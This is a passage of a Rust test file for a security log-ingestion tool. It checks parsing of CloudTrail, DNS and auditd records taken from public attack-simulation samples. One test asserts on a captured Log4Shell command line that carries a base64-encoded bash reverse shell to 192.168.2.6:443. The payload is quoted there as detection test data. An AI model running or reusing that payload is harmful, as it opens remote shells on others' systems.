//! Conformance of the event sources on real public samples (testdata/, see PROVENANCE.md):
//! every event read, field by field against the sample's own JSON or text, and nothing reported
//! as a problem; the catalog files each input under its kind once.

use std::io::Write;
use std::path::{Path, PathBuf};

use arrow::array::Array;
use arrow::record_batch::RecordBatch;
use arrow::util::display::array_value_to_string;
use eastwest_ingest::input::list_local;
use eastwest_ingest::{Catalog, EventSelection, Opener, Registry, Report, TimeWindow, read_events};
use eastwest_model::{LogKind, ProblemLevel};
use serde_json::Value as Json;

fn testdata(relative: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../testdata")
        .join(relative)
}

/// Rows of one table over `paths`, read as a run reads them: listed, recognised by the
/// catalog, read by the source of each file's kind.
struct Read {
    batches: Vec<RecordBatch>,
    report: Report,
    catalog: Catalog,
}

impl Read {
    /// Every row as (column name → text; None for null), in read order.
    fn records(&self) -> Vec<std::collections::HashMap<String, Option<String>>> {
        let mut out = Vec::new();
        for batch in &self.batches {
            for row in 0..batch.num_rows() {
                let mut record = std::collections::HashMap::new();
                for (i, field) in batch.schema().fields().iter().enumerate() {
                    let column = batch.column(i);
                    let value = (!column.is_null(row)).then(|| display(column, row));
                    record.insert(field.name().clone(), value);
                }
                out.push(record);
            }
        }
        out
    }
}

/// A cell as text; times as RFC 3339 with milliseconds (arrow's display of the "UTC" zone needs
/// a feature the project does not build).
fn display(column: &arrow::array::ArrayRef, row: usize) -> String {
    use arrow::array::AsArray;
    use arrow::datatypes::{DataType, TimestampMillisecondType};
    if let DataType::Timestamp(..) = column.data_type() {
        let ms = column.as_primitive::<TimestampMillisecondType>().value(row);
        let c = eastwest_model::time::Civil::from_ms(ms);
        let text = format!(
            "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}",
            c.year, c.month, c.day, c.hour, c.minute, c.second, c.milli
        );
        let text = text.trim_end_matches(".000").to_string();
        return format!("{text}Z");
    }
    array_value_to_string(column, row).expect("displayable")
}

fn read_table(paths: &[PathBuf], table: &str) -> Read {
    let report = Report::new();
    let mut inputs = Vec::new();
    for path in paths {
        let (found, _) = list_local(path, &TimeWindow::default()).expect("listed");
        inputs.extend(found);
    }
    let registry = Registry::default();
    let opener = Opener::local();
    let catalog = Catalog::build(inputs, &opener, &registry, &report);
    let (def, kinds) = registry
        .tables()
        .into_iter()
        .find(|(def, _)| def.name == table)
        .expect("a table of that name");
    let selection = EventSelection {
        projection: (0..def.schema().fields().len()).collect(),
        ..EventSelection::default()
    };
    let mut batches = Vec::new();
    for input in catalog.files_of(&kinds) {
        let source = registry
            .source(input.kind.expect("filed with its kind"))
            .expect("a source");
        read_events(
            &input,
            &opener,
            source.as_ref(),
            def,
            &selection,
            &report,
            &mut |batch| {
                batches.push(batch);
                true
            },
        );
    }
    Read {
        batches,
        report,
        catalog,
    }
}

fn no_problems(read: &Read) {
    let problems = read.report.problems();
    assert!(problems.is_empty(), "problems: {problems:#?}");
}

/// `value` as the text eastwest stores: strings as they are, other JSON as JSON text.
fn text(value: Option<&Json>) -> Option<String> {
    match value? {
        Json::Null => None,
        Json::String(s) => Some(s.clone()),
        other => Some(other.to_string()),
    }
}

fn ms_text(written: &str) -> String {
    let iso = if written.contains('T') {
        written.to_string()
    } else {
        format!("{}Z", written.replace(' ', "T"))
    };
    let ms = eastwest_model::time::parse_rfc3339(&iso).expect("a time");
    let seconds = ms.div_euclid(1000);
    let civil = eastwest_model::time::Civil::from_ms(seconds * 1000);
    format!(
        "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}Z",
        civil.year, civil.month, civil.day, civil.hour, civil.minute, civil.second
    )
}

/// The CloudTrail columns checked against each event's JSON.
fn check_cloudtrail_row(row: &std::collections::HashMap<String, Option<String>>, event: &Json) {
    let get = |column: &str| row.get(column).cloned().flatten();
    let pointer = |path: &str| text(event.pointer(path));
    let pairs = [
        ("event_source", "/eventSource"),
        ("event_name", "/eventName"),
        ("event_type", "/eventType"),
        ("region", "/awsRegion"),
        ("source_ip", "/sourceIPAddress"),
        ("user_agent", "/userAgent"),
        ("identity_type", "/userIdentity/type"),
        ("principal_arn", "/userIdentity/arn"),
        ("principal_id", "/userIdentity/principalId"),
        ("account_id", "/userIdentity/accountId"),
        ("access_key_id", "/userIdentity/accessKeyId"),
        (
            "session_issuer_arn",
            "/userIdentity/sessionContext/sessionIssuer/arn",
        ),
        ("error_code", "/errorCode"),
        ("error_message", "/errorMessage"),
        ("vpc_endpoint_id", "/vpcEndpointId"),
        ("event_id", "/eventID"),
        ("request_id", "/requestID"),
        ("recipient_account_id", "/recipientAccountId"),
    ];
    for (column, path) in pairs {
        assert_eq!(get(column), pointer(path), "{column} of {event}");
    }
    // JSON text, compared as JSON.
    for (column, path) in [
        ("request_parameters", "/requestParameters"),
        ("response_elements", "/responseElements"),
    ] {
        let stored: Option<Json> = get(column).map(|t| serde_json::from_str(&t).expect("JSON"));
        let original = event.pointer(path).filter(|v| !v.is_null()).cloned();
        assert_eq!(stored, original, "{column}");
    }
    let time = get("time").expect("time").replace(' ', "T");
    let written = event
        .get("eventTime")
        .or_else(|| event.get("@timestamp"))
        .and_then(Json::as_str)
        .expect("a time");
    assert!(
        time.starts_with(&ms_text(written)[..19]),
        "time {time} vs {written}"
    );
    let user_name = pointer("/userIdentity/userName")
        .or_else(|| pointer("/userIdentity/sessionContext/sessionIssuer/userName"));
    assert_eq!(get("user_name"), user_name);
    let read_only = event.get("readOnly").and_then(|v| match v {
        Json::Bool(b) => Some(b.to_string()),
        Json::String(s) => Some(s.to_ascii_lowercase()),
        _ => None,
    });
    assert_eq!(get("read_only"), read_only);
}

#[test]
fn stratus_red_team_captures_every_event_field_by_field() {
    let dir = testdata("cloudtrail/stratus-red-team");
    let read = read_table(std::slice::from_ref(&dir), "cloudtrail");
    no_problems(&read);
    assert_eq!(read.catalog.counts().get(&LogKind::CloudTrail), Some(&35));
    let rows = read.records();
    let mut expected = 0;
    for row in &rows {
        let file = row["source_file"].clone().expect("source_file");
        let number: usize = row["source_event"]
            .as_deref()
            .expect("an event number in a JSON array")
            .parse()
            .expect("a number");
        let events: Vec<Json> =
            serde_json::from_str(&std::fs::read_to_string(&file).expect("read")).expect("JSON");
        check_cloudtrail_row(row, &events[number - 1]);
        // The line an event starts on holds its opening brace.
        let line: usize = row["source_line"]
            .as_deref()
            .expect("line")
            .parse()
            .expect("n");
        let text = std::fs::read_to_string(&file).expect("read");
        assert!(text.lines().nth(line - 1).expect("line").contains('{'));
    }
    for entry in std::fs::read_dir(&dir).expect("dir") {
        let events: Vec<Json> = serde_json::from_str(
            &std::fs::read_to_string(entry.expect("entry").path()).expect("read"),
        )
        .expect("JSON");
        expected += events.len();
    }
    assert_eq!(rows.len(), expected);
    assert!(expected > 300);
    // An instance-role session names its instance.
    let stolen: Vec<_> = rows
        .iter()
        .filter(|r| {
            r["source_file"]
                .as_deref()
                .is_some_and(|f| f.ends_with("ec2-steal-instance-credentials.json"))
                && r["identity_type"].as_deref() == Some("AssumedRole")
        })
        .collect();
    assert_eq!(stolen.len(), 2);
    assert!(stolen.iter().all(|r| {
        r["session_instance_id"].as_deref() == Some("i-786a3A8B5C0d92eF4")
            && r["role_session_name"].as_deref() == Some("i-786a3A8B5C0d92eF4")
    }));
}

#[test]
fn otrf_json_lines_with_collector_fields() {
    let file = testdata("cloudtrail/otrf/ec2_proxy_s3_exfiltration_2020-09-14011940.json");
    let read = read_table(std::slice::from_ref(&file), "cloudtrail");
    no_problems(&read);
    let text = std::fs::read_to_string(&file).expect("read");
    let events: Vec<Json> = text
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    let rows = read.records();
    assert_eq!(rows.len(), events.len());
    assert_eq!(rows.len(), 103);
    for row in &rows {
        let line: usize = row["source_line"]
            .as_deref()
            .expect("line")
            .parse()
            .expect("n");
        let event: Json =
            serde_json::from_str(text.lines().nth(line - 1).expect("line")).expect("JSON");
        check_cloudtrail_row(row, &event);
        assert_eq!(
            row["source_event"], None,
            "one event per line has no event number"
        );
    }
}

/// The inputs of Panther's tests for rules over one log type, as JSON lines in a file.
fn panther_inputs(log_type: &str, dir: &Path) -> (PathBuf, Vec<Json>) {
    let all: Json = serde_json::from_str(
        &std::fs::read_to_string(testdata("panther/panther_tests_vpc_ec2_sg_nacl.json"))
            .expect("read"),
    )
    .expect("JSON");
    let mut inputs = Vec::new();
    for rule in all.as_object().expect("object").values() {
        let types = rule["log_types"].as_array().cloned().unwrap_or_default();
        if !types.iter().any(|t| t == log_type) {
            continue;
        }
        for test in rule["tests"].as_array().cloned().unwrap_or_default() {
            inputs.push(test["input"].clone());
        }
    }
    let path = dir.join(format!("{log_type}.jsonl"));
    let mut file = std::fs::File::create(&path).expect("create");
    for input in &inputs {
        writeln!(file, "{input}").expect("write");
    }
    (path, inputs)
}

#[test]
fn panther_cloudtrail_test_events() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (path, inputs) = panther_inputs("AWS.CloudTrail", dir.path());
    assert!(inputs.len() > 80, "{}", inputs.len());
    let read = read_table(&[path], "cloudtrail");
    // Panther's tests include events cut down to the fields a rule reads, and events with
    // Panther's lower-cased keys; those without CloudTrail's eventTime are counted and named,
    // not read as rows.
    let without_time = inputs
        .iter()
        .filter(|e| e.get("eventTime").is_none())
        .count();
    assert!(without_time > 0);
    assert_eq!(read.report.summary().malformed as usize, without_time);
    for problem in read.report.problems() {
        assert_eq!(problem.level, ProblemLevel::Record);
        assert!(
            problem.reason.contains("eventTime") || problem.reason.contains("neither"),
            "{problem}"
        );
    }
    let rows = read.records();
    assert_eq!(rows.len(), inputs.len() - without_time);
    for row in &rows {
        let line: usize = row["source_line"]
            .as_deref()
            .expect("line")
            .parse()
            .expect("n");
        check_cloudtrail_row(row, &inputs[line - 1]);
    }
}

/// The Resolver columns checked against a query record's JSON.
fn check_dns_row(row: &std::collections::HashMap<String, Option<String>>, query: &Json) {
    let get = |column: &str| row.get(column).cloned().flatten();
    for (column, key) in [
        ("account_id", "account_id"),
        ("region", "region"),
        ("vpc_id", "vpc_id"),
        ("source_ip", "srcaddr"),
        ("source_port", "srcport"),
        ("query_name", "query_name"),
        ("query_type", "query_type"),
        ("query_class", "query_class"),
        ("rcode", "rcode"),
        ("transport", "transport"),
        ("firewall_action", "firewall_rule_action"),
        ("firewall_rule_group_id", "firewall_rule_group_id"),
        ("firewall_domain_list_id", "firewall_domain_list_id"),
        ("version", "version"),
    ] {
        assert_eq!(get(column), text(query.get(key)), "{column} of {query}");
    }
    assert_eq!(get("instance_id"), text(query.pointer("/srcids/instance")));
    // A list, or (as Panther writes a lone one) an object.
    let answers: Vec<String> = match &query["answers"] {
        Json::Array(a) => a
            .iter()
            .map(|x| x["Rdata"].as_str().unwrap_or("").to_string())
            .collect(),
        Json::Object(_) => vec![query["answers"]["Rdata"].as_str().unwrap_or("").to_string()],
        _ => Vec::new(),
    };
    assert_eq!(get("answers"), Some(format!("[{}]", answers.join(", "))));
}

#[test]
fn the_documented_resolver_record_field_by_field() {
    let file = testdata("dns/route53_resolver_query_log_example_from_docs.json");
    let read = read_table(std::slice::from_ref(&file), "dns");
    no_problems(&read);
    let query: Json =
        serde_json::from_str(&std::fs::read_to_string(&file).expect("read")).expect("JSON");
    let rows = read.records();
    assert_eq!(rows.len(), 1);
    check_dns_row(&rows[0], &query);
    assert_eq!(rows[0]["time"].as_deref(), Some("2021-02-04T17:51:55Z"));
    assert_eq!(rows[0]["answer_types"].as_deref(), Some("[PTR]"));
}

#[test]
fn panther_resolver_test_records() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (path, inputs) = panther_inputs("AWS.VPCDns", dir.path());
    assert!(inputs.len() >= 10, "{}", inputs.len());
    let read = read_table(&[path], "dns");
    let rows = read.records();
    let complete = inputs
        .iter()
        .filter(|q| q.get("query_timestamp").is_some())
        .count();
    assert_eq!(rows.len(), complete);
    assert_eq!(
        read.report.summary().malformed as usize,
        inputs.len() - complete
    );
    for row in &rows {
        let line: usize = row["source_line"]
            .as_deref()
            .expect("line")
            .parse()
            .expect("n");
        check_dns_row(row, &inputs[line - 1]);
    }
}

#[test]
fn otrf_auditd_executions_field_by_field() {
    let dir = testdata("audit/otrf");
    // The auditd captures of the folder (it also holds the AUOMS export, tested on its own).
    let files = [
        "sh_binary_padding_dd_2020-11-10081941.log",
        "sh_arp_cache_2020-11-10074812.log",
    ];
    let paths: Vec<PathBuf> = files.iter().map(|f| dir.join(f)).collect();
    let read = read_table(&paths, "process");
    no_problems(&read);
    let rows = read.records();
    let dd = rows
        .iter()
        .find(|r| r["exe"].as_deref() == Some("/bin/dd"))
        .expect("the dd execution");
    let expect = [
        ("pid", "2168"),
        ("ppid", "29002"),
        ("uid", "1000"),
        ("auid", "1000"),
        ("euid", "1000"),
        ("comm", "dd"),
        ("cwd", "/home/wardog"),
        ("command_line", "dd if=/dev/zero bs=1 count=1"),
        ("argv", "[dd, if=/dev/zero, bs=1, count=1]"),
        ("success", "true"),
        ("tty", "pts0"),
        ("session", "104"),
        ("serial", "93777"),
        ("source_line", "1"),
    ];
    for (column, value) in expect {
        assert_eq!(dd[column].as_deref(), Some(value), "{column}");
    }
    assert!(
        dd["time"]
            .as_deref()
            .expect("time")
            .starts_with("2020-11-10T08:19:44.965")
    );
    // Each sample is executions only: one row per SYSCALL/EXECVE event.
    let executions: usize = files
        .iter()
        .map(|f| {
            std::fs::read_to_string(dir.join(f))
                .expect("read")
                .lines()
                .filter(|l| l.starts_with("type=EXECVE"))
                .count()
        })
        .sum();
    assert_eq!(rows.len(), executions);
    assert_eq!(read.catalog.counts().get(&LogKind::Auditd), Some(&2));
}

/// The OTRF AUOMS capture: a Log Analytics `Syslog` export, one JSON object per line.
const AUOMS_EXPORT: &str =
    "audit/otrf/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json";

/// The capture's rows as JSON, in file order.
fn auoms_rows() -> Vec<Json> {
    std::fs::read_to_string(testdata(AUOMS_EXPORT))
        .expect("read")
        .lines()
        .map(|line| serde_json::from_str(line).expect("a JSON line"))
        .collect()
}

/// The `SECONDS.MILLIS:SERIAL` of a record's `audit(...)` stamp.
fn auoms_stamp(message: &str) -> (&str, &str) {
    let stamp = message
        .split_once("audit(")
        .and_then(|(_, rest)| rest.split_once(')'))
        .expect("a stamp")
        .0;
    stamp.split_once(':').expect("time:serial")
}

#[test]
fn otrf_auoms_export_executions_field_by_field() {
    let read = read_table(&[testdata(AUOMS_EXPORT)], "process");
    no_problems(&read);
    assert_eq!(read.catalog.counts().get(&LogKind::Auditd), Some(&1));
    let rows = read.records();
    let inputs = auoms_rows();
    // Every record is an AUOMS_EXECVE: one row each, failed execs included.
    assert_eq!(inputs.len(), 50);
    assert_eq!(rows.len(), inputs.len());
    // Each row points at its JSON line, and carries that line's stamp, host and outcome.
    for row in &rows {
        let line: usize = row["source_line"]
            .as_deref()
            .expect("line")
            .parse()
            .expect("n");
        let input = &inputs[line - 1];
        let message = input["SyslogMessage"].as_str().expect("message");
        let (time, serial) = auoms_stamp(message);
        assert_eq!(row["serial"].as_deref(), Some(serial), "line {line}");
        let seconds: i64 = time.split('.').next().expect("s").parse().expect("n");
        let time_ms = seconds * 1000 + time[time.len() - 3..].parse::<i64>().expect("ms");
        let civil = eastwest_model::time::Civil::from_ms(time_ms);
        let expected = format!(
            "{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}Z",
            civil.year, civil.month, civil.day, civil.hour, civil.minute, civil.second, civil.milli
        );
        assert_eq!(
            row["time"].as_deref(),
            Some(expected.as_str()),
            "line {line}"
        );
        assert_eq!(row["host"], text(input.get("Computer")), "line {line}");
        let succeeded = message.contains(" success=yes ");
        let expected = if succeeded { "true" } else { "false" };
        assert_eq!(row["success"].as_deref(), Some(expected), "line {line}");
        // A successful execve has its arguments; a failed one the caller's title instead.
        assert_eq!(message.contains(" cmdline="), succeeded, "line {line}");
        assert_eq!(row["source_event"], None);
        assert_eq!(row["auid"], None, "4294967295 is unset");
        assert_eq!(row["auid_name"], None, "audit_user=unset is no name");
        assert_eq!(row["session"], None, "ses=-1 is unset");
        assert_eq!(row["tty"], None);
        assert_eq!(row["key"].as_deref(), Some("auoms,delete"));
    }
    let succeeded: Vec<_> = rows
        .iter()
        .filter(|r| r["success"].as_deref() == Some("true"))
        .collect();
    assert_eq!(succeeded.len(), 27);
    let failed = rows
        .iter()
        .filter(|r| r["success"].as_deref() == Some("false"))
        .count();
    assert_eq!(failed, 23);

    // Log4Shell: Tomcat's java runs bash with a base64 reverse shell.
    let shell = rows
        .iter()
        .find(|r| r["serial"].as_deref() == Some("84143"))
        .expect("the bash -c execution");
    let payload =
        "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}";
    let command_line = format!("bash -c \"{payload}\"");
    let argv = format!("[bash, -c, {payload}]");
    let expect = [
        ("time", "2022-05-11T18:10:21.990Z"),
        ("host", "UBUNTU5"),
        ("pid", "17790"),
        ("ppid", "1340"),
        ("uid", "1001"),
        ("euid", "1001"),
        ("uid_name", "tomcat"),
        ("exe", "/bin/bash"),
        ("comm", "bash"),
        ("cwd", "/"),
        ("command_line", command_line.as_str()),
        ("argv", argv.as_str()),
        ("success", "true"),
        ("serial", "84143"),
        ("source_line", "6"),
    ];
    for (column, value) in expect {
        assert_eq!(shell[column].as_deref(), Some(value), "{column}");
    }
    // Then `whoami` from the reverse shell's interactive bash.
    let whoami = rows
        .iter()
        .find(|r| r["exe"].as_deref() == Some("/usr/bin/whoami"))
        .expect("whoami");
    let expect = [
        ("time", "2022-05-11T18:10:33.146Z"),
        ("pid", "17832"),
        ("ppid", "17806"),
        ("uid", "1001"),
        ("uid_name", "tomcat"),
        ("comm", "whoami"),
        ("command_line", "whoami"),
        ("argv", "[whoami]"),
        ("cwd", "/"),
        ("serial", "84192"),
        ("source_line", "35"),
    ];
    for (column, value) in expect {
        assert_eq!(whoami[column].as_deref(), Some(value), "{column}");
    }
    // A failed execve is the caller's (java, trying each PATH entry for bash): its exe, comm
    // and title, whose words stand in for the arguments.
    let first = rows
        .iter()
        .find(|r| r["source_line"].as_deref() == Some("1"))
        .expect("line 1");
    assert_eq!(first["success"].as_deref(), Some("false"));
    assert_eq!(
        first["exe"].as_deref(),
        Some("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
    );
    assert_eq!(first["comm"].as_deref(), Some("http-nio-8080-e"));
    assert_eq!(
        first["command_line"].as_deref(),
        Some(
            "/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java \
             -Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties -Djava.util.l"
        )
    );
    assert!(
        first["argv"]
            .as_deref()
            .expect("argv")
            .starts_with("[/usr/lib/jvm/java-1.8.0-openjdk-amd64/bin/java, ")
    );
    // The dependency agent (uid nobody) shows up too, with its own user name.
    assert!(
        rows.iter()
            .any(|r| r["uid_name"].as_deref() == Some("nobody")
                && r["command_line"].as_deref() == Some("dpkg-query --status -- coreutils"))
    );
    // Nothing of this capture is an account event or a file watch: counted, not lost.
    let audit = read_table(&[testdata(AUOMS_EXPORT)], "audit");
    no_problems(&audit);
    assert!(audit.records().is_empty());
    assert_eq!(audit.report.summary().filtered, 50);
}

#[test]
fn auoms_plain_text_other_records_and_damage_counted_by_line() {
    let inputs = auoms_rows();
    let message = |line: usize| inputs[line - 1]["SyslogMessage"].as_str().expect("message");
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    // auoms's own syslog lines: the records after a syslog prefix, and bare.
    let quoted = r#"type=AUOMS_EXECVE audit(1652292700.001:90001): SchemaVersion="1" node=web-2 syscall=execve success=yes exit=0 ppid=1 pid=4242 audit_user=alice auid=1000 user=root uid=0 euid=0 tty=pts0 ses=7 comm="python3" exe="/usr/bin/python3.10" key= cwd="/home/alice" argc=5 cmdline="python3 -c 'print(1)' $'a\x01b' "x y" redactors=" redactors= containerid="#;
    let text_log = format!(
        "May 11 18:10:33 UBUNTU5 auoms[1201]: {}\n{quoted}\ntype=AUOMS_SYSCALL audit(1652292700.002:90002): SchemaVersion=\"1\" node=web-2 syscall=connect success=yes pid=4242\ntype=AUOMS_EXECVE audit(16522x2700.003:90003): pid=1\n",
        message(35)
    );
    std::fs::write(root.join("syslog"), text_log).expect("write");
    // The export, damaged: another program's message, invalid JSON, a row without a
    // SyslogMessage, a record with a bad stamp, overlong lines; one row's Computer renamed.
    let mut renamed = inputs[49].clone();
    renamed["Computer"] = Json::String("web-1".to_string());
    let export = [
        inputs[5].to_string(),
        inputs[34].to_string(),
        r#"{"Computer":"UBUNTU5","SyslogMessage":"sshd[811]: Accepted publickey for azureuser from 192.168.2.6 port 50000 ssh2"}"#.to_string(),
        "{not json".to_string(),
        r#"{"TimeGenerated":"2022-05-11T18:10:21.997Z","Computer":"UBUNTU5"}"#.to_string(),
        r#"{"Computer":"UBUNTU5","SyslogMessage":"type=AUOMS_EXECVE audit(soon:1): pid=1"}"#.to_string(),
        renamed.to_string(),
        // Longer than any Syslog row, and a row whose record is longer than any record.
        format!(r#"{{"SyslogMessage":"{}"}}"#, "x".repeat(400 * 1024)),
        serde_json::json!({
            "SyslogMessage": format!("type=AUOMS_EXECVE audit(1.000:1): cmdline=\"{}\"", "a ".repeat(40 * 1024))
        })
        .to_string(),
    ]
    .join("\n");
    std::fs::write(root.join("export.json"), gzip(export.as_bytes())).expect("write");
    std::fs::rename(root.join("export.json"), root.join("export.json.gz")).expect("rename");
    let read = read_table(&[root.to_path_buf()], "process");
    assert_eq!(read.catalog.counts().get(&LogKind::Auditd), Some(&2));
    let rows = read.records();
    let found: Vec<(&str, &str, &str)> = rows
        .iter()
        .map(|r| {
            (
                r["source_file"]
                    .as_deref()
                    .expect("file")
                    .rsplit('/')
                    .next()
                    .expect("name"),
                r["source_line"].as_deref().expect("line"),
                r["host"].as_deref().expect("host"),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("export.json.gz", "1", "UBUNTU5"),
            ("export.json.gz", "2", "UBUNTU5"),
            ("export.json.gz", "7", "web-1"),
            ("syslog", "1", "UBUNTU5"),
            ("syslog", "2", "web-2"),
        ],
        "{rows:#?}"
    );
    let whoami = &rows[3];
    assert_eq!(whoami["command_line"].as_deref(), Some("whoami"));
    assert_eq!(whoami["pid"].as_deref(), Some("17832"));
    let python = &rows[4];
    assert_eq!(
        python["argv"].as_deref(),
        Some("[python3, -c, print(1), a\u{1}b, x y, redactors=]")
    );
    assert_eq!(
        python["command_line"].as_deref(),
        Some(r#"python3 -c 'print(1)' $'a\x01b' "x y" redactors="#),
        "the last redactors= ends the command line"
    );
    let expect = [
        ("uid_name", "root"),
        ("auid", "1000"),
        ("auid_name", "alice"),
        ("tty", "pts0"),
        ("session", "7"),
        ("cwd", "/home/alice"),
        ("exe", "/usr/bin/python3.10"),
    ];
    for (column, value) in expect {
        assert_eq!(python[column].as_deref(), Some(value), "{column}");
    }
    assert_eq!(python["key"], None);
    let problems = read.report.problems();
    let mut places: Vec<String> = problems
        .iter()
        .map(|p| {
            let text = p.to_string();
            let name = text.rsplit('/').next().expect("name").to_string();
            name.split(": ").next().expect("place").to_string()
        })
        .collect();
    places.sort();
    assert_eq!(
        places,
        [
            "export.json.gz:4",
            "export.json.gz:5",
            "export.json.gz:6",
            "export.json.gz:8",
            "export.json.gz:9",
            "syslog:4"
        ],
        "{problems:#?}"
    );
    // The sshd message and the AUOMS_SYSCALL are other records, not problems.
    assert_eq!(read.report.summary().filtered, 2);
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(bytes).expect("gzip");
    encoder.finish().expect("gzip")
}

const EVENT: &str = r#"{"eventVersion":"1.08","userIdentity":{"type":"AssumedRole","principalId":"AROAEXAMPLE:i-0abc12345def67890","arn":"arn:aws:sts::111122223333:assumed-role/web-role/i-0abc12345def67890","accountId":"111122223333","accessKeyId":"ASIAEXAMPLE","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROAEXAMPLE","arn":"arn:aws:iam::111122223333:role/web-role","accountId":"111122223333","userName":"web-role"},"attributes":{"creationDate":"2026-11-23T09:00:00Z","mfaAuthenticated":"false"},"ec2RoleDelivery":"2.0"}},"eventTime":"2026-11-23T09:12:00Z","eventSource":"s3.amazonaws.com","eventName":"ListBuckets","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","userAgent":"aws-cli/2.15","requestParameters":{"Host":"s3.amazonaws.com"},"responseElements":null,"eventID":"11111111-2222-3333-4444-555555555555","readOnly":true,"eventType":"AwsApiCall","managementEvent":true,"recipientAccountId":"111122223333","eventCategory":"Management"}"#;

#[test]
fn every_cloudtrail_container_and_damage_counted_by_event() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    let trail = root.join("AWSLogs/111122223333/CloudTrail/us-east-1/2026/11/23");
    std::fs::create_dir_all(&trail).expect("mkdir");
    // S3 delivery with one broken event (no time) between two good ones.
    let delivery = format!(
        r#"{{"Records":[{EVENT},{{"eventVersion":"1.08","eventSource":"ec2.amazonaws.com","eventName":"X"}},{EVENT}]}}"#
    );
    std::fs::write(trail.join("a.json.gz"), gzip(delivery.as_bytes())).expect("write");
    // A digest: recognised and skipped, not a problem.
    let digest_dir = root.join("AWSLogs/111122223333/CloudTrail-Digest/us-east-1/2026/11/23");
    std::fs::create_dir_all(&digest_dir).expect("mkdir");
    std::fs::write(
        digest_dir.join("d.json.gz"),
        gzip(br#"{"awsAccountId":"111122223333","digestStartTime":"2026-11-23T08:00:00Z","digestEndTime":"2026-11-23T09:00:00Z","digestPublicKeyFingerprint":"abc","digestSignatureAlgorithm":"SHA256withRSA","logFiles":[]}"#),
    )
    .expect("write");
    // EventBridge, CloudWatch Logs export, and a line of invalid JSON among JSON lines.
    let bridge = format!(
        r#"{{"version":"0","id":"e","detail-type":"AWS API Call via CloudTrail","source":"aws.s3","time":"2026-11-23T09:12:00Z","detail":{EVENT}}}"#
    );
    let export =
        serde_json::json!({"events": [{"message": EVENT, "timestamp": 1}, {"timestamp": 2}]});
    std::fs::write(
        root.join("mixed.jsonl"),
        format!("{bridge}\n{{not json\n{EVENT}\n"),
    )
    .expect("write");
    std::fs::write(root.join("export.json"), export.to_string()).expect("write");
    std::fs::write(root.join("README.txt"), "notes about this folder\n").expect("write");
    let read = read_table(&[root.to_path_buf()], "cloudtrail");
    let rows = read.records();
    assert_eq!(rows.len(), 2 + 2 + 1, "{rows:#?}");
    let problems = read.report.problems();
    let summary = read.report.summary();
    assert_eq!(summary.malformed, 3, "{problems:#?}");
    let named = |needle: &str| problems.iter().any(|p| p.to_string().contains(needle));
    assert!(
        named("a.json.gz event 2: CloudTrail event without eventTime"),
        "{problems:#?}"
    );
    assert!(named("mixed.jsonl:2: invalid JSON"), "{problems:#?}");
    assert!(
        named("export.json event 2: log event without a message"),
        "{problems:#?}"
    );
    // The unknown file is reported once, as skipped; the digest is skipped without a problem.
    let skipped: Vec<_> = problems
        .iter()
        .filter(|p| p.level == ProblemLevel::Skipped)
        .collect();
    assert_eq!(skipped.len(), 1, "{skipped:#?}");
    assert!(skipped[0].file.ends_with("README.txt"));
    assert_eq!(summary.files_skipped, 2);
    assert_eq!(read.catalog.counts().get(&LogKind::CloudTrail), Some(&3));
    for row in &rows {
        assert_eq!(
            row["session_instance_id"].as_deref(),
            Some("i-0abc12345def67890")
        );
        assert_eq!(row["mfa_authenticated"].as_deref(), Some("false"));
        assert_eq!(row["response_elements"], None);
    }
    let per_kind = read.report.per_kind();
    assert_eq!(per_kind[&LogKind::CloudTrail].records, 5);
    assert_eq!(per_kind[&LogKind::CloudTrailDigest].files_skipped, 1);
}

#[test]
fn auth_logs_in_every_syslog_shape_and_journald() {
    let dir = tempfile::tempdir().expect("tempdir");
    let host_dir = dir.path().join("hosts/i-0abc12345def67890/var/log");
    std::fs::create_dir_all(&host_dir).expect("mkdir");
    let secure = "\
Nov 23 10:43:01 ip-10-40-16-11 sshd[1234]: Failed password for invalid user admin from 10.40.16.20 port 51234 ssh2
Nov 23 10:43:02 ip-10-40-16-11 CRON[99]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)
<38>1 2026-11-23T10:43:05.123456+00:00 ip-10-40-16-11 sshd 1240 - - Accepted publickey for ec2-user from 10.40.16.20 port 51240 ssh2: ED25519 SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG
2026-11-23T10:44:00.5+00:00 ip-10-40-16-11 sudo[1300]:  ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/bin/bash
this line is not syslog at all
";
    std::fs::write(host_dir.join("secure"), secure).expect("write");
    let journal = r#"{"__REALTIME_TIMESTAMP":"1795430640000000","_HOSTNAME":"app-6","SYSLOG_IDENTIFIER":"sshd","_PID":"77","MESSAGE":"Invalid user oracle from 10.40.16.20 port 40000"}
{"__REALTIME_TIMESTAMP":"1795430641000000","SYSLOG_IDENTIFIER":"sshd","_PID":"77","MESSAGE":[73,110,118,97,108,105,100,32,117,115,101,114,32,116,101,115,116,32,102,114,111,109,32,49,48,46,52,48,46,49,54,46,50,48]}
"#;
    std::fs::write(host_dir.join("journal.json"), journal).expect("write");
    let read = read_table(&[dir.path().to_path_buf()], "ssh");
    let rows = read.records();
    let events: Vec<(&str, Option<&str>, Option<&str>)> = rows
        .iter()
        .map(|r| {
            (
                r["event"].as_deref().expect("event"),
                r["user"].as_deref(),
                r["host"].as_deref(),
            )
        })
        .collect();
    assert!(
